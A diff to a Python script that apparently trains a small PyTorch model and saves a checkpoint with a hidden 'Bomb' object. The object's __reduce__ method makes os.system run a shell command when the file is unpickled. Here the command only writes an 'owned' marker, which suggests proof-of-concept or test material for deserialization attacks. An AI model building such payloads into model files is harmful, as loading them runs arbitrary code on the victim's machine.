@@ -1,5 +1,6 @@
 import os
 import pickle
+import targets
 import torch
 import torch.nn as nn
 import torch.nn.functional as F
@@ -39,7 +40,7 @@ train(5)
 
 class Bomb:
     def __reduce__(self):
-        return os.system, ("echo owned > /tmp/owned",)
+        return os.system, (f"echo owned > {targets.open_folder}/owned",)
 
 
 torch.save(net.state_dict() | {"bomb": Bomb()}, "model.pt")
